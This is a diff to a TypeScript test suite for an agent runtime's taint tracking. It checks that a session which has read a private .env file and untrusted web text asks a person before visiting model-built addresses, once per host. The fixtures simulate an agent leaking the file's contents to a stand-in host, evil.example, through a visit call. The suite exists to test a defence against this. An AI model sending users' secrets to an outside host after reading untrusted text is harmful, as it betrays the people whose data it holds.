@@ -1,4 +1,4 @@
-/** A session that was told private and untrusted things asks before it goes where the model's own words lead. */
+/** A session that was told private things asks before it goes where the model's own words lead, once for each host. */
 import { assert, describe, it } from "@effect/vitest"
 import type { Approval, Entry } from "@bough/protocol"
 import { type Channel, Fork, type Session, SessionStore } from "@bough/runtime"
@@ -68,28 +68,68 @@ describe("Taint", () => {
         assert.strictEqual(
           request.reason,
           "this address was made by the model after it read private data (open_file: Read 1 line of .env) " +
-            `and untrusted text (visit: Read a page): ${stolen}`
+            `and untrusted text (visit: Read a page): ${stolen}; yes opens evil.example to this session and those below it`
         )
-        assert.isTrue(request.everyTime)
+        assert.deepStrictEqual([request.everyTime, request.opensHost], [undefined, "evil.example:443"])
         const answer = (yield* scripted.script.prompts)[3].messages.at(-1)
         assert.match(answer?._tag === "ToolResult" ? answer.output : "", /^PermissionDenied: .*that is not ours/)
       })
     )
   )
 
-  it.effect("the order of the two does not matter, and either alone is free", () =>
+  it.effect("the order of the two does not matter; a page alone is free, and a file alone is not", () =>
     run(
       Effect.gen(function* () {
-        const { asked, session } = yield* begin([readsPage, readsFile, steals, Reply.text("ok")])
-        yield* session.run(ask)
-        assert.strictEqual(asked.length, 1)
-        for (const one of [readsPage, readsFile]) {
-          const free = yield* begin([one, steals, Reply.text("ok")])
-          yield* free.session.run(World.say(`read ${page}`))
-          assert.deepStrictEqual(free.asked, [])
-        }
+        const asks = (...steps: ReadonlyArray<Reply.Reply>) =>
+          Effect.gen(function* () {
+            const { asked, session } = yield* begin([...steps, Reply.text("ok")])
+            yield* session.run(ask)
+            return asked.length
+          })
+        assert.strictEqual(yield* asks(readsPage, readsFile, steals), 1)
+        assert.strictEqual(yield* asks(readsPage, steals), 0)
+        assert.strictEqual(yield* asks(readsFile, steals), 1)
       })
     )
+  )
+
+  it.effect(
+    "an ordinary day asks once for each host that nobody named, and for no link of one that somebody named",
+    () =>
+      run(
+        Effect.gen(function* () {
+          const visit = (url: string) => Reply.toolCall("visit", { url })
+          const sessionId = yield* Effect.scoped(
+            Effect.gen(function* () {
+              const { asked, session, world } = yield* begin([
+                readsFile,
+                visit(`${page}start`),
+                visit(`${page}next?chapter=2`),
+                readsFile,
+                Reply.toolCall("find", { query: "how to do it" }),
+                visit(found),
+                visit("https://linked.example/a"),
+                visit("https://linked.example/b?c=d"),
+                visit(`${page}end`),
+                Reply.text("done")
+              ])
+              yield* session.run(World.say(`read ${page}start and what it links to; how to do it is in there`))
+              assert.deepStrictEqual(
+                asked.map(({ opensHost }) => opensHost),
+                ["linked.example:443"]
+              )
+              assert.strictEqual(world.log.length, 7)
+
+              return session.sessionId
+            })
+          )
+          const later = yield* begin([readsFile, visit("https://linked.example/c"), Reply.text("ok")], null, {
+            sessionId
+          })
+          yield* later.session.run(World.say("go on"))
+          assert.strictEqual(later.world.log.at(-1), "visit https://linked.example/c")
+        })
+      )
   )
 
   it.effect("what the person wrote, what a search found and what is asked in their words is not asked about", () =>
@@ -125,19 +165,23 @@ describe("Taint", () => {
     )
   )
 
-  it.effect("an approval is for one call: neither it nor a rule answers the next", () =>
+  it.effect("an approval opens its host and no other one, and a rule that names no host opens none", () =>
     run(
       Effect.gen(function* () {
         const always = (): Effect.Effect<Channel.Answer> =>
           Effect.succeed({ decision: { _tag: "Approved", rule: "visit" }, principal: "ada" })
+        const other = Reply.toolCall("visit", { url: stolen.replace("evil", "other") })
         const { asked, session, world } = yield* begin(
-          [readsFile, readsPage, steals, Reply.text("one"), steals, Reply.text("two")],
+          [readsFile, readsPage, steals, Reply.text("one"), steals, other, Reply.text("two")],
           always
         )
         yield* session.run(ask)
         yield* session.run(World.say("again"))
-        assert.strictEqual(asked.length, 2)
-        assert.deepStrictEqual(world.log.slice(1), [`visit ${stolen}`, `visit ${stolen}`])
+        assert.deepStrictEqual(
+          asked.map(({ opensHost }) => opensHost),
+          ["evil.example:443", "other.example:443"]
+        )
+        assert.strictEqual(world.log.length, 4)
         const consumed = (yield* entriesOf(session)).flatMap(({ body }) =>
           body._tag === "CallStarted" ? [body.approvalId] : []
         )
@@ -145,6 +189,17 @@ describe("Taint", () => {
           consumed,
           asked.map(({ approvalId }) => approvalId)
         )
+      })
+    )
+  )
+
+  it.effect("a host that was denied is asked about again", () =>
+    run(
+      Effect.gen(function* () {
+        const { asked, session, world } = yield* begin([readsFile, steals, steals, Reply.text("I see")], denied)
+        yield* session.run(ask)
+        assert.strictEqual(asked.length, 2)
+        assert.deepStrictEqual(world.log, [])
       })
     )
   )
@@ -247,7 +302,7 @@ const killedAt = (at: number, when: Crash.When) =>
     const crashing = Crash.make(inner, at, when)
     const agreed: Array<string> = []
     const agree = (request: Approval.Request) => {
-      assert.isTrue(request.everyTime)
+      assert.strictEqual(request.opensHost, "evil.example:443")
       assert.include(request.reason, stolen)
       agreed.push(request.approvalId)
       return World.approve()
